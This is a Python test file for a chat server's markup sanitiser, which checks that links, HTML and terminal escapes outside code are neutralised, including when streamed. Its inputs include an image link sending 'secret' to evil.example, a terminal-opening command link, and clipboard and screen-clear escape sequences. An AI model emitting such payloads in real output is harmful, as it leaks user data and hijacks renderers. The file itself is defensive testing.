import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fimble_server.chat.markup import DisarmedStream, disarmed


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain [1] text, a < b and List<T>", "plain [1] text, a < b and List\\<T>"),
        ("![x](http://evil.example/?q=secret)", "![x]\\(http://evil.example/?q=secret)"),
        ("[click](command:workbench.action.terminal.new)", "[click]\\(command:workbench.action.terminal.new)"),
        ("[a][b]\n\n[b]: http://evil.example", "[a][b]\n\n[b]\\: http://evil.example"),
        ("<img src=http://evil.example>", "\\<img src=http://evil.example>"),
        ("<http://evil.example>", "\\<http://evil.example>"),
        ("</p><!-- x --><?php", "\\</p>\\<!-- x -->\\<?php"),
        ("`items[0](x)` and `<b>`", "`items[0](x)` and `<b>`"),
        ("``a ` [b](c)`` [d](e)", "``a ` [b](c)`` [d]\\(e)"),
        ("```html\n<b>[x](y)</b>\n```\n<b>", "```html\n<b>[x](y)</b>\n```\n\\<b>"),
        ("````\n```\n[x](y)\n````\n[x](y)", "````\n```\n[x](y)\n````\n[x]\\(y)"),
        # What a renderer takes for something else than code is none here either.
        ("` [x](y)", "` [x]\\(y)"),
        ("a `\n[x](y) `", "a `\n[x]\\(y) `"),
        ("- ```\n  a\n  ```\n[x](y)", "- ```\n  a\n  ```\n[x]\\(y)"),
        ("> ```\n[x](y)\n", "> ```\n[x]\\(y)\n"),
        ("```a`b\n[x](y)", "```a`b\n[x]\\(y)"),
        ("```\n  ```\n[x](y)", "```\n  ```\n[x]\\(y)"),
        ("`a\nb` [x](y) `c`", "`a\nb` [x]\\(y) `c`"),
        ("\\`[x](y)`", "\\`[x]\\(y)`"),
        ("\\\\`[x](y)`", "\\\\`[x](y)`"),
        ("\\<b> \\\\<b>", "\\<b> \\\\\\<b>"),
        ("text\u2028```\n[x](y)", "text\u2028```\n[x]\\(y)"),
        ("[x\\](y)", "[x\\]\\(y)"),
        ("a\x1b]52;c;x\x07 `\x1b[2J`\u202e\tb\r\n", "a]52;c;x `[2J`\tb\r\n"),
        ("[x]\x1b(y) <\u200bb>", "[x]\\(y) \\<b>"),
        ("", ""),
    ],
)
def test_nothing_outside_of_code_leads_anywhere(text: str, expected: str) -> None:
    assert disarmed(text) == expected


_PIECES = st.lists(
    st.sampled_from([*"a [](){}<>`!:/\\\n\r1\x1b", "```", "](", "http://x", "\n```\n", "\u2028"]), max_size=30
)


@given(_PIECES)
@example(["`", "`", "[", "x", "]", "(", "y", ")", "`"])
def test_a_stream_is_the_same_in_whatever_pieces_it_comes(pieces: list[str]) -> None:
    stream = DisarmedStream()
    released = [stream.feed(piece) for piece in pieces]
    assert "".join([*released, stream.flush()]) == disarmed("".join(pieces))


@given(_PIECES)
def test_what_was_released_is_never_live(pieces: list[str]) -> None:
    stream = DisarmedStream()
    released = ""
    for piece in pieces:
        released += stream.feed(piece)
        assert disarmed("".join(pieces)).startswith(released)
